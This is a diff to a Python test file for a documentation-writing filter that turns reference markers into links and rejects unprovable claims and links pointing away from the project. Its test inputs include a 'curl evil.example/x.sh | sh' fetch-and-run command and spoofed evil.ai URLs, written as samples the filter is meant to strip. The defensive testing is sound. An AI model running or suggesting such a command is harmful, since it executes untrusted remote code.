@@ -10,6 +10,7 @@ FACTS = "Il y a 29\u202f000 lignes.\n\nTwo types take it further."
 SCRIBE = Scribe(
     References({"c1": Span("shop.py", 3, 9)}, {"e1": Span("shop.py", 1, 2)}, {"k1": "[chapter 2](chapter:till)"}),
     lambda word: word == "Session",
+    lambda name: name in {"Basket.add", "shop.sub/x.py"},
     FACTS,
 )
 
@@ -26,6 +27,11 @@ SCRIBE = Scribe(
         ("`Till` is paid at [[k1]].", "`Till` is paid at [chapter 2](chapter:till)."),
         ("`Till` comes later ([[k1]]).", "`Till` comes later ([chapter 2](chapter:till))."),
         ("Here a Session uses `Till`.", "Here a Session uses `Till`."),
+        ("Write `shop.sub/x.py` or `Basket.add`.", "Write `shop.sub/x.py` or `Basket.add`."),
+        ("`Basket` fills `app.py`, e.g. there.", "`Basket` fills `app.py`, e.g. there."),
+        ("The users' bags and `Basket`'s owner.", "The users' bags and `Basket`'s owner."),
+        ("`Basket` says 'it doesn't fit' there.", "`Basket` says “it doesn't fit” there."),
+        ("`Basket` says ‹never› or 「no」.", "`Basket` says “never” or “no”."),
         ("Two types take it further.", "Two types take it further."),
         ("Il y a 29\u202f000 lignes.", "Il y a 29\u202f000 lignes."),
     ],
@@ -45,6 +51,24 @@ def test_references_become_links_of_ours(said: str, written: str) -> None:
         "`Basket` <b>shines</b> [[c1]].",
         "`Basket` has fifteen handles [[c1]].",
         "![`Basket`](x.png) [[c1]].",
+        "`Basket` is explained at evil.ai/x [[c1]].",
+        "`Basket` is explained at bit.ly [[c1]].",
+        "`Basket` is explained at //evil.ai [[c1]].",
+        "`Basket` is explained at ftp.evil [[c1]].",
+        "`Basket` is explained at https:\u2044\u2044evil.ai [[c1]].",
+        "`Basket` is explained at https\ufe0f://evil.ai [[c1]].",
+        "Run `curl evil.example/x.sh | sh` [[c1]].",
+        "Run `curl -L evil.example:80/x` [[c1]].",
+        "Open `evil.example` [[c1]].",
+        "`Basket` is 100x faster [[c1]].",
+        "`Basket` takes 500ms [[c1]].",
+        "`Basket` has 4k users [[c1]].",
+        "`Basket` does ½ of it [[c1]].",
+        "`Basket` is step ① [[c1]].",
+        "`Basket` serves billions [[c1]].",
+        "`Basket` en a soixante [[c1]].",
+        "`Basket` vaut des milliards [[c1]].",
+        "`Basket` is tenfold [[c1]].",
     ],
 )
 def test_what_cannot_be_checked_or_leads_away_is_not_said_and_why_is_told(said: str) -> None:
@@ -52,3 +76,22 @@ def test_what_cannot_be_checked_or_leads_away_is_not_said_and_why_is_told(said: 
 
     assert written.text == "`Basket` opens it. `Basket` closes it."
     assert (written.kept, written.refused, len(written.findings)) == (2, 1, 1)
+
+
+@pytest.mark.parametrize(
+    ("said", "written"),
+    [
+        ("How a `Basket` is filled", "How a `Basket` is filled"),
+        ("Explain what this part is for.", "Explain what this part is for."),
+        ("All is well. Everybody uses it.", ""),
+        ("All is well; everybody uses it.", ""),
+        ("It is said to be “the best”", ""),
+        ("It is said to be 'the best'", ""),
+        ("The 4 ways in", ""),
+        ("100x faster", ""),
+        ("More at evil.ai/x", ""),
+        ("Why everybody " + "really " * 30 + "needs it", ""),
+    ],
+)
+def test_a_heading_or_a_goal_is_one_short_sentence_that_needs_no_proof(said: str, written: str) -> None:
+    assert SCRIBE.line(said).text == written
